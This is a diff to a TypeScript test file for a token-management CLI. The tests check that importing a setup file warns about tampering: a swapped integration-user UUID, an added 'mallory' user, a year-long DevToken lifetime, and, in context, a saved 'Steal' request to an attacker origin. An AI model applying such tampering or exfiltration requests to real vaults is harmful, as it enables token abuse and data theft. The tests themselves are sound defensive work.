@@ -98,6 +98,27 @@ describe('a setup file that re-points a stored secret', () => {
       /every default copy, token and exec of acme\/web would now hand out devtoken: a DevToken signed by a stored key, from acme's key KID-1 \(was token: the public client id\)/,
     ],
     [
+      'the integration user alice of acme/web pointed at another UUID (the DevToken sub its key signs)',
+      (_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'web').integrationUsers = [{ label: 'alice', uuid: '0b9e7d1c-2f3a-4b5c-8d6e-7f8091a2b3c4' }]),
+      'acme/web',
+      () => world.vault.resolveClient('acme', 'web').client.integrationUsers,
+      /acme's key KID-1 would now sign DevTokens of acme\/web with integration user "alice" "0b9e7d1c-2f3a-4b5c-8d6e-7f8091a2b3c4" \(was "8d883178-9585-482e-bb4b-0c85736edc2d"\)/,
+    ],
+    [
+      'the integration users of acme/web (a new label, so a new DevToken sub)',
+      (_s, org) => org('acme').clients.find((c: { name: string }) => c.name === 'web').integrationUsers.push({ label: 'mallory', uuid: '0b9e7d1c-2f3a-4b5c-8d6e-7f8091a2b3c4' }),
+      'acme/web',
+      () => world.vault.resolveClient('acme', 'web').client.integrationUsers,
+      /acme's key KID-1 would now sign DevTokens of acme\/web with integration user "mallory" "0b9e7d1c-2f3a-4b5c-8d6e-7f8091a2b3c4" \(was none\)/,
+    ],
+    [
+      'the DevToken lifetime of acme/web, made longer than the default',
+      (_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'web').devtokenTtlSeconds = 366 * 24 * 3600),
+      'acme/web',
+      () => world.vault.resolveClient('acme', 'web').client.devtokenTtlSeconds,
+      /acme's key KID-1 would now sign DevTokens of acme\/web with DevToken lifetime 31622400 s \(was 1209600 s\)/,
+    ],
+    [
       'the saved requests of acme (one added that may go to any origin, here another host)',
       (_s, org) => org('acme').savedRequests.push({ name: 'Steal', request: { client: 'web', method: 'GET', url: `${evil.origin}/collect`, query: [], headers: [], body: { kind: 'none' }, allowAnyOrigin: true } }),
       'acme saved Steal',
@@ -182,6 +203,13 @@ describe('a setup file that re-points a stored secret', () => {
     const up = await runTokendeck(['import', setupFile((_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'nosecret').defaultScheme = 'basic'))], { env: world.env });
     expect(up.code).toBe(0);
     expect(world.vault.resolveClient('acme', 'nosecret').client.defaultScheme).toBe('basic');
+  });
+
+  it('a DevToken user removed, or a shorter DevToken lifetime, is a plain change', async () => {
+    const run = await runTokendeck(['import', setupFile((_s, org) => Object.assign(org('acme').clients.find((c: { name: string }) => c.name === 'web'), { integrationUsers: [], devtokenTtlSeconds: 600 }))], { env: world.env });
+    expect(run.code).toBe(0);
+    expect(run.stdout).toBe('change acme/web: integrationUsers, devtokenTtlSeconds\n');
+    expect(world.vault.resolveClient('acme', 'web').client).toMatchObject({ integrationUsers: [], devtokenTtlSeconds: 600 });
   });
 
   it('an organization holding no secret and no private key takes the same change plainly', async () => {
